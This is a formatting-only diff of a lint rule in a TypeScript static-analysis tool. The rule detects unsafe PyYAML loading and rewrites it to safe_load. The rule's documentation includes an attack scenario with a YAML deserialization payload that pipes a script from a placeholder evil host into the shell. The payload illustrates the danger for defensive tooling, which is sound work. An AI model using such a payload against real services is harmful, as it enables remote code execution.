@@ -6,7 +6,10 @@ import { removeArgument, replaceNode } from '../../src/analysis/python/fixes.js'
 
 const SAFE_LOADERS = new Set(['SafeLoader', 'CSafeLoader', 'BaseLoader', 'CBaseLoader']);
 const SAFE_NAME: Record<string, string> = {
-  load: 'safe_load', load_all: 'safe_load_all', unsafe_load: 'safe_load', unsafe_load_all: 'safe_load_all',
+  load: 'safe_load',
+  load_all: 'safe_load_all',
+  unsafe_load: 'safe_load',
+  unsafe_load_all: 'safe_load_all',
 };
 
 export default defineRule({
@@ -29,13 +32,18 @@ export default defineRule({
       unsafe: '`{{fn}}` can construct arbitrary Python objects from YAML tags; use `yaml.{{safe}}`.',
     },
     docs: {
-      whatItDoes: 'Flags `yaml.load`/`load_all` without `Loader=SafeLoader` (or `CSafeLoader`, `BaseLoader`), and `yaml.unsafe_load`. The fix switches to `safe_load`.',
-      whyBad: 'The full and unsafe loaders honour tags such as `!!python/object/apply:os.system`, so a YAML document can call functions while it is parsed.',
-      businessImpact: 'Remote code execution through any YAML the application parses: uploaded configs, CI files, API payloads.',
-      attackScenario: 'A service imports user-supplied pipeline definitions with `yaml.load(text, Loader=yaml.Loader)`; the attacker submits `!!python/object/apply:os.system ["curl evil.sh|sh"]`.',
+      whatItDoes:
+        'Flags `yaml.load`/`load_all` without `Loader=SafeLoader` (or `CSafeLoader`, `BaseLoader`), and `yaml.unsafe_load`. The fix switches to `safe_load`.',
+      whyBad:
+        'The full and unsafe loaders honour tags such as `!!python/object/apply:os.system`, so a YAML document can call functions while it is parsed.',
+      businessImpact:
+        'Remote code execution through any YAML the application parses: uploaded configs, CI files, API payloads.',
+      attackScenario:
+        'A service imports user-supplied pipeline definitions with `yaml.load(text, Loader=yaml.Loader)`; the attacker submits `!!python/object/apply:os.system ["curl evil.sh|sh"]`.',
       example: 'config = yaml.load(text, Loader=yaml.Loader)',
       useInstead: 'config = yaml.safe_load(text)',
-      testing: 'Parse a document containing `!!python/object/apply:os.getpid []` and assert it raises `yaml.constructor.ConstructorError`.',
+      testing:
+        'Parse a document containing `!!python/object/apply:os.getpid []` and assert it raises `yaml.constructor.ConstructorError`.',
       knownProblems: 'A Loader passed in a variable is reported, since the rule cannot see which class it holds.',
       references: [
         'https://pyyaml.org/wiki/PyYAMLDocumentation',
